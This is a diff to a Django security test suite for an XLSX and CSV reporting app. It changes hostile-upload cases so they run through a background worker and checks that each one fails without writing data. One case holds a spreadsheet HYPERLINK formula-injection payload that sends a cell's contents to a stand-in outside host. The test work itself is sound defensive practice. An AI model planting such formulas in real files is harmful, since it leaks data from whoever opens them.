@@ -26,6 +26,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from lotrinh.reporting import xlsx_form
+from lotrinh.reporting.models import FormUpload
 from tests.security import corpus
 from tests.security.conftest import client_of
 from tests.security.dbhash import WriteWatch
@@ -97,6 +98,10 @@ class Case:
     keywords: tuple[str, ...] = ()  # the message names the problem (any of these words)
     method: str = "POST"
     extra: dict[str, Any] = field(default_factory=dict)
+    # Refused by the worker, not the request (the XLSX form's rows): the request only
+    # queues the file; the job runs (as the worker would), fails with the message on the
+    # upload's page, and writes nothing but its own row, with the file's bytes dropped.
+    on_worker: bool = False
 
 
 # ---------------------------------------------------------------- the paths
@@ -275,18 +280,27 @@ CASES: dict[str, Case] = {
             form_edit(in_progress_row(result='=HYPERLINK("https://example.test/?x="&B3,"Bấm")')),
         ),
         FORMULA,
+        on_worker=True,
     ),
     "form-31-02-date": Case(
         "reporter_a",
         FORM,
         form_upload("bao-cao.xlsx", form_edit(in_progress_row(evidence_date="31/02/2024"))),
         DATE,
+        on_worker=True,
     ),
     "form-forged-other-report": Case(
-        "reporter_a", FORM, form_upload("bao-cao.xlsx", form_edit(point_meta_at("b_draft")))
+        "reporter_a",
+        FORM,
+        form_upload("bao-cao.xlsx", form_edit(point_meta_at("b_draft"))),
+        on_worker=True,
     ),
     "form-forged-future-version": Case(
-        "reporter_a", FORM, form_upload("bao-cao.xlsx", form_edit(forged_future_version)), VERSION
+        "reporter_a",
+        FORM,
+        form_upload("bao-cao.xlsx", form_edit(forged_future_version)),
+        VERSION,
+        on_worker=True,
     ),
     # ------------------------------------------------------------ indicator CSV import
     "csv-empty": Case("most", ENTER, csv_import(lambda: b"")),
@@ -433,23 +447,36 @@ CASES: dict[str, Case] = {
 
 
 @pytest.mark.parametrize("name", list(CASES))
-def test_bad_input_gets_a_clear_message_and_changes_nothing(name, world):
+def test_bad_input_gets_a_clear_message_and_changes_nothing(
+    name, world, django_capture_on_commit_callbacks
+):
     case = CASES[name]
     client = client_of(world, case.persona)
     url = case.url(world)
     data = case.data(world)
     files_before = stored_files()
+    uploads_before = set(FormUpload.objects.values_list("pk", flat=True))
     watch = WriteWatch()
     try:
         with time_limit(SECONDS):
             if case.method == "GET":
                 response = client.get(url, data)
+            elif case.on_worker:
+                with django_capture_on_commit_callbacks(execute=True):
+                    queued = client.post(url, data)
+                assert queued.status_code == 302, f"{name}: not queued ({queued.status_code})"
+                response = client.get(queued["Location"])
             else:
                 response = client.post(url, data)
     except TookTooLong:
         pytest.fail(
             f"{name}: not refused within {SECONDS} s (it is being parsed on the web worker)"
         )
+    allowed: set[str] = set()
+    if case.on_worker:
+        new = FormUpload.objects.exclude(pk__in=uploads_before)
+        assert [(u.status, bytes(u.data)) for u in new] == [("failed", b"")], name
+        allowed = {FormUpload._meta.db_table}
     status = response.status_code
     said = error_text(response)
     problems = []
@@ -466,7 +493,7 @@ def test_bad_input_gets_a_clear_message_and_changes_nothing(name, world):
     new_files = stored_files() - files_before
     if new_files:
         problems.append(f"stored files {sorted(new_files)}")
-    changed = watch.changed()
+    changed = [table for table in watch.changed() if table not in allowed]
     if changed:
         problems.append(f"changed {changed}")
     assert not problems, f"{name}: " + "; ".join(problems)
